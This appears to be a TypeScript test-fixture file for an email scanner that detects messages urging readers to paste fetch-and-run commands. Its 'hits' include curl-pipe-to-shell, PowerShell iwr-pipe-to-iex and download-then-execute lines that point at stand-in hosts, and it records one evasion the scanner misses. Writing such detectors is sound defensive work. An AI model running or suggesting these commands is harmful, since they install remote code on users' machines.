import type { Examples } from "@doorward/core";
import { examplePolicy, makeMail } from "../example-mail.ts";

/** Commands that fetch and start, and commands that do not. */
export const examples: Examples = {
  hits: [
    {
      name: "an installer for the shell",
      files: {
        "mail.eml": makeMail({
          text: "Open Terminal and paste:\n\ncurl -fsSL https://tool.stranger.example/install.sh | sh\n",
        }),
      },
    },
    {
      name: "an installer for PowerShell",
      files: {
        "mail.eml": makeMail({
          text: "Run this command in PowerShell:\n\niwr -useb https://tool.stranger.example/install.ps1 | iex\n",
        }),
      },
    },
    {
      name: "an archive that is fetched, and started",
      files: {
        "mail.eml": makeMail({
          text: "Copy the command below and run it in your terminal:\n\ncurl -o /tmp/a https://tool.stranger.example/a && chmod +x /tmp/a && /tmp/a\n",
        }),
      },
    },
  ],
  misses: [
    {
      name: "commands of a project",
      why: "They fetch from a registry, by name.",
      files: { "mail.eml": makeMail({ text: "Open a terminal and run these commands:\n\nnpm install\nnpm test\n" }) },
    },
    {
      name: "a proved colleague",
      why: "The company's own server proved who wrote it.",
      files: {
        "mail.eml": makeMail({
          from: "Ben Ray <ben@company.example>",
          dmarc: "pass",
          text: "Open Terminal and paste:\n\ncurl -fsSL https://tool.stranger.example/install.sh | sh\n",
        }),
        "doorward.yaml": examplePolicy,
      },
    },
    {
      name: "a command that reads from an interface",
      why: "Its answer is shown and not run.",
      files: {
        "mail.eml": makeMail({
          text: "Run this command in the terminal to see the list:\n\ncurl -s https://api.stranger.example/users | jq .\n",
        }),
      },
    },
  ],
  evasions: [
    {
      name: "the command on the page behind a link",
      caughtBy: "nothing",
      files: {
        "mail.eml": makeMail({ text: "Open Terminal and paste the command from https://tool.stranger.example/start" }),
      },
    },
  ],
};
